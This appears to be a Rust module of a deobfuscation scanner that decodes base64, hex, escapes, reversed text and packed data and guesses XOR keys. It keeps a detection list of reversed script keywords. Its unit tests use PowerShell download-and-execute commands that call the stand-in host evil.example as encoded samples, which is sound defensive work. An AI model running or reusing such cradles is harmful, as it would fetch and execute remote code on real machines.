//! Encoded data in a text of any language, or in a binary: base64, hexadecimal digits, escapes, numbers, and what was
//! written the other way round. What is decoded counts only if it is text or a file (`score`).

use std::ops::Range;

use crate::alphabet::{self, Alphabet};
use crate::budget::Budget;
use crate::decode::base64::{self, STANDARD, URL};
use crate::decode::{Packed, inflate, lz, text};
use crate::guess;
use crate::limits::{MAX_BLOBS, MAX_LAYER, MAX_TRIED};
use crate::partly::escaped;
use crate::peel::{Found, Technique};
use crate::runs::{Encoding, runs};
use crate::score::{self, Kind};

/// How sure it must be that what was decoded was written.
pub const LEAST_CONFIDENCE: u8 = 75;
/// The longest, which are tried as DEFLATE: each may grow to what a layer may have.
const MAX_DEFLATED: usize = 16;
/// Characters of base64 that is read backwards though no padding stands before it.
const LEAST_TURNED: usize = 40;
/// Blobs that keys are guessed for.
const MAX_GUESSES: usize = 8;

/// What is encoded in `data`, as far as it can be read. `guessing`: whether keys are looked for.
pub fn find(data: &[u8], guessing: bool, budget: &mut Budget) -> Vec<Found> {
    if !budget.spend(data.len() / 64) {
        return Vec::new();
    }
    let alphabets = alphabet::find(data);
    let mut places = places(data, &alphabets);
    places.sort_by_key(|(_, place)| std::cmp::Reverse(place.len()));
    budget.met.blobs |= places.len() > MAX_TRIED;
    places.truncate(MAX_TRIED);
    // A text that is one blob and no more is nobody's data.
    let is_all = places.first().is_some_and(|(_, place)| place.len() * 10 >= data.trim_ascii().len() * 9);
    let mut guesses = if guessing || is_all { MAX_GUESSES } else { 0 };
    let mut found: Vec<Found> = Vec::new();
    for (tried, (encoding, place)) in places.into_iter().enumerate() {
        if found.len() >= MAX_BLOBS {
            budget.met.blobs = true;
            break;
        }
        let Some(run) = data.get(place.clone()) else { continue };
        // A line of what was decoded is no data by itself.
        let is_piece = found.iter().any(|one| one.start <= place.start && place.end <= one.end);
        if is_piece || run.len() > MAX_LAYER || !budget.spend(run.len() / 16) {
            continue;
        }
        let one = decoded(encoding, run, &alphabets, &mut guesses, tried < MAX_BLOBS);
        let is_deflated = tried < MAX_DEFLATED && encoding == Encoding::Base64;
        if let Some(one) = one.or_else(|| if is_deflated { deflated(run) } else { None }) {
            found.push(Found { start: place.start, end: place.end, ..one });
        }
    }
    found.extend(reversed(data));
    let is_url = |one: &&Found| one.technique == Technique::Url;
    let urls: Vec<Range<usize>> = found.iter().filter(is_url).map(|one| one.start..one.end).collect();
    let is_new = |one: &Found| urls.iter().all(|url| url.end <= one.start || one.end <= url.start);
    found.extend(escaped(data).into_iter().filter(is_new));
    found.sort_by_key(|one| one.start);
    found
}

/// Runs of one encoding, those in the text's own alphabets among them.
fn places(data: &[u8], alphabets: &[Alphabet]) -> Vec<(Encoding, Range<usize>)> {
    let mut places = runs(data);
    for (_, place) in &mut places {
        *place = alphabet::without(place.clone(), alphabets);
    }
    let own = alphabets.iter().flat_map(|alphabet| alphabet::runs(data, alphabet));
    places.extend(own.map(|place| (Encoding::Base64, alphabet::without(place, alphabets))));
    places.retain(|(_, place)| !place.is_empty());
    places
}

/// `may_grow`: what unpacks to a multiple of its size is tried, too.
fn decoded(
    encoding: Encoding,
    run: &[u8],
    alphabets: &[Alphabet],
    guesses: &mut usize,
    may_grow: bool,
) -> Option<Found> {
    match encoding {
        Encoding::Base64 => base64_run(run, alphabets, guesses, may_grow),
        Encoding::Hex => {
            let digits: Vec<u8> = run.iter().copied().filter(u8::is_ascii_hexdigit).collect();
            accepted(Technique::Hex, text::hex_strict(&digits)?, guesses)
        }
        // Fingerprints and addresses of devices are written so: no keys are guessed for them.
        Encoding::Pairs => accepted(Technique::Hex, text::hex_loose(run)?, &mut 0),
        Encoding::Hexed => {
            accepted(Technique::UnicodeEscape, text::escapes(std::str::from_utf8(run).ok()?).into_bytes(), &mut 0)
        }
        Encoding::Percent => accepted(Technique::Url, text::percent(run), &mut 0),
        Encoding::Entities => {
            accepted(Technique::Html, text::entities(std::str::from_utf8(run).ok()?).into_bytes(), &mut 0)
        }
        Encoding::Numbers => {
            accepted(Technique::Charcode, text::charcodes(std::str::from_utf8(run).ok()?, None)?, guesses)
        }
    }
}

fn base64_run(run: &[u8], alphabets: &[Alphabet], guesses: &mut usize, may_grow: bool) -> Option<Found> {
    if run.starts_with(b"=") {
        return turned(run);
    }
    let standard = base64::decode(run, STANDARD).map(|bytes| (bytes, Technique::Base64));
    let plain = standard.or_else(|| Some((base64::decode(run, URL)?, Technique::Base64Url)));
    let technique = plain.as_ref().map_or(Technique::Base64, |plain| plain.1);
    if let Some(found) = plain.and_then(|(bytes, technique)| accepted(technique, bytes, &mut 0)) {
        return Some(found);
    }
    let own = |alphabet: &Alphabet| accepted(Technique::Base64Custom, base64::decode(run, &alphabet.letters)?, &mut 0);
    let packed = || {
        let unpacks = [lz::decompress_base64, lz::decompress_uri].into_iter().filter(|_| may_grow);
        unpacks.filter_map(|unpack| accepted(Technique::LzString, unpack(run)?, &mut 0)).next()
    };
    let turned = if run.len() < LEAST_TURNED { None } else { turned(run) };
    let found = turned.or_else(|| alphabets.iter().find_map(own)).or_else(packed);
    found.or_else(|| accepted(technique, base64::decode(run, STANDARD)?, guesses))
}

/// Base64 that was written the other way round.
fn turned(run: &[u8]) -> Option<Found> {
    let turned: Vec<u8> = run.iter().rev().copied().collect();
    let bytes = base64::decode(&turned, STANDARD).or_else(|| base64::decode(&turned, URL))?;
    accepted(Technique::ReverseBase64, bytes, &mut 0)
}

/// What was decoded, if it was written by somebody; else what a key makes of it.
fn accepted(technique: Technique, bytes: Vec<u8>, guesses: &mut usize) -> Option<Found> {
    let plain = match score::verdict(&bytes) {
        Some(verdict) if verdict.confidence >= LEAST_CONFIDENCE => {
            let bytes = if verdict.kind == Kind::Wide { text::utf16(&bytes, true) } else { bytes };
            return Some(Found::part(technique, verdict.confidence, bytes));
        }
        _ if is_zlib(&bytes) => {
            return Some(Found::part(technique, 95, bytes));
        }
        _ if *guesses > 0 => {
            *guesses -= 1;
            guess::xor(&bytes)?
        }
        _ => return None,
    };
    // The bytes between are a layer of their own, which the next round undoes.
    Some(Found { key: Some(plain.key), ..Found::part(technique, plain.confidence, bytes) })
}

/// zlib of something that was written.
fn is_zlib(bytes: &[u8]) -> bool {
    inflate(bytes, Packed::Zlib).is_some_and(|inner| score::verdict(&inner).is_some())
}

/// Base64 of DEFLATE without a header, which any bytes may look like.
fn deflated(run: &[u8]) -> Option<Found> {
    let bytes = base64::decode(run, STANDARD)?;
    let verdict = score::verdict(&inflate(&bytes, Packed::Raw)?)?;
    (verdict.confidence >= LEAST_CONFIDENCE).then(|| Found::part(Technique::Base64, 95, bytes))
}

/// What is in scripts, the other way round.
const TURNED: [&str; 9] =
    ["//:ptth", "//:sptth", "tcejboetaerc", "llehsrewop", "llehs.tpircsw", "noitcnuf", "(lave", "tneilcbew", "exe.dmc"];

/// Quoted texts that were written the other way round.
fn reversed(data: &[u8]) -> Vec<Found> {
    let mut found: Vec<Found> = Vec::new();
    if data.len() > MAX_LAYER {
        return found;
    }
    let lower = data.to_ascii_lowercase();
    for turned in TURNED {
        for at in memchr::memmem::find_iter(&lower, turned.as_bytes()).take(8) {
            let is_quote = |byte: &u8| matches!(byte, b'"' | b'\'' | b'`' | b'\n' | b'\r');
            let start = data[..at].iter().rposition(is_quote).map_or(0, |quote| quote + 1);
            let end = data[at..].iter().position(is_quote).map_or(data.len(), |quote| at + quote);
            if found.iter().any(|one| one.start == start) {
                continue;
            }
            let text = crate::decode::lossy(&data[start..end]).chars().rev().collect::<String>();
            found.push(Found { start, end, ..Found::part(Technique::Reverse, 90, text.into_bytes()) });
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";

    fn contents(text: &str) -> Vec<String> {
        let found = find(text.as_bytes(), false, &mut Budget::new(text.len())).into_iter();
        found.map(|one| String::from_utf8(one.content).expect("text")).collect()
    }

    fn digits(text: &str, separator: &str) -> String {
        text.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(separator)
    }

    #[test]
    fn pairs_of_digits_may_be_apart() {
        for separator in [" ", "-", ":", ";", ",", ", ", "  ", " \r\n"] {
            assert_eq!(contents(&digits(SCRIPT, separator)), [SCRIPT], "{separator:?}");
            assert_eq!(contents(&digits(SCRIPT, separator).to_uppercase()), [SCRIPT], "{separator:?}");
        }
        let lines = |width: usize, text: &str| {
            let lines = text.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).expect("ASCII"));
            lines.collect::<Vec<_>>().join("\n")
        };
        let long = SCRIPT.repeat(3);
        for width in [40, 60, 64] {
            assert_eq!(contents(&lines(width, &digits(&long, ""))), [long.as_str()], "{width}");
        }
        assert_eq!(contents(&lines(48, &digits(&long, " "))), [long.as_str()]);
    }

    #[test]
    fn honest_digits_are_no_text() {
        let noise = |separator: &str| {
            let bytes = (0..64_u32).map(|index| (index.wrapping_mul(2_654_435_761) >> 13) & 255);
            bytes.map(|byte| format!("{byte:02X}")).collect::<Vec<_>>().join(separator)
        };
        let ages = "32 45 67 41 55 52 38 61 49 70 66 53 48 57 62 59 44 47 51 68 39 65 43 56";
        let dump = "00000000  49 45 58 20 28 4e 65 77  2d 4f 62 6a 65 63 74 20  |IEX (New-Object |\n";
        let hashes = format!("{0}\n{0}\n{0}\n", &noise("")[..40]);
        for text in [&noise(":"), &noise(" "), &noise("-"), ages, &dump.repeat(4), &hashes, "00:1a:2b:3c:4d:5e"] {
            assert!(contents(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn octal_escapes_are_undone() {
        let octal: String = SCRIPT.bytes().map(|byte| format!("\\{byte:o}")).collect();
        assert_eq!(contents(&octal), [SCRIPT]);
        assert!(contents("(.)(.)(.) -> \\1\\2\\3\\4\\5\\6\\7\\1\\2\\3\\4").is_empty());
    }

    #[test]
    fn partly_escaped_commands_and_addresses_are_undone() {
        let command = "cmd=powershell%20-nop%20-c%20%22IEX%20x.Get(%27http%3A%2F%2Fevil.example%27)%22";
        assert_eq!(contents(command), ["cmd=powershell -nop -c \"IEX x.Get('http://evil.example')\""]);
        assert_eq!(contents("u=http%3A%2F%2Fevil.example/a"), ["u=http://evil.example/a"]);
        for honest in [
            "https://example.com/share?u=https%3A%2F%2Fexample.org%2Fpage",
            "<a href=\"/share?u=https%3A%2F%2Fexample.org%2F\">",
            "100%25%20of%20all",
            "50% of this, 20% of that, %d and %s",
        ] {
            assert!(contents(honest).is_empty(), "{honest}");
        }
    }
}
